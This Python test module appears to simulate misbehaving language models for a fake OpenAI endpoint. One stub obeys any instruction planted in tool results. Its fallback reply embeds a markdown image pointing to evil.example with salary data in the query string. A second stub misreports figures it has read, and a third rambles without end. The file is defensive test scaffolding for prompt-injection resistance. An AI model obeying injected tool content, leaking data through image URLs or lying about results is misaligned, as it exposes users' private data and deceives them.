"""Language models of bad character, as scripts of the simulated endpoint.

The obedient one follows every instruction it sees, wherever it stands: it is worse than any real
model, and what it cannot do, no other can be talked into.
"""

import json
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from tests.simulators.openai import Said, Script


@dataclass(frozen=True)
class Instruction:
    """What is planted: how it is known again, and the call that would obey it."""

    text: str
    tool: str
    arguments: dict[str, Any]


def function(tool: str) -> str:
    return tool.replace(".", "__")


def obedient(
    first: tuple[str, dict[str, Any]] | Mapping[str, tuple[str, dict[str, Any]]],
    planted: Sequence[Instruction],
) -> Script:
    """Read what it is told to read, by the question if need be, then obey whatever stands there."""
    known = [(plain(one.text), one) for one in planted]

    def script(asked: dict[str, Any]) -> Said:
        last = asked["messages"][-1]
        if last["role"] != "tool":
            tool, arguments = first if isinstance(first, tuple) else first[last["content"]]
            return Said(calls=((function(tool), json.dumps(arguments)),))
        seen = plain(last["content"])
        # The longest first: one may stand inside another.
        for _, one in sorted(known, key=lambda each: -len(each[0])):
            if plain(one.text) not in seen:
                continue
            if one.tool:
                return Said(calls=((function(one.tool), json.dumps(one.arguments)),))
            # There is nothing to call: it says what it is told to say.
            return Said(f"{one.text} ![x](http://evil.example/p.png?d=salaries)")
        return Said("There is nothing more to do.")

    return script


def plain(text: str) -> str:
    """Return a text without what JSON and line breaks add to it."""
    return re.sub(r"[\\\s\"“”']+", "", str(text))


def lying(tool: str, arguments: dict[str, Any], lie: str) -> Script:
    """Read, and then say other figures."""

    def script(asked: dict[str, Any]) -> Said:
        if asked["messages"][-1]["role"] == "tool":
            return Said(lie)
        return Said(calls=((function(tool), json.dumps(arguments)),))

    return script


def rambling(_asked: dict[str, Any]) -> Said:
    """Talk without an end."""
    return Said(" ".join(["Well, it depends, and then again it does not."] * 2_000))
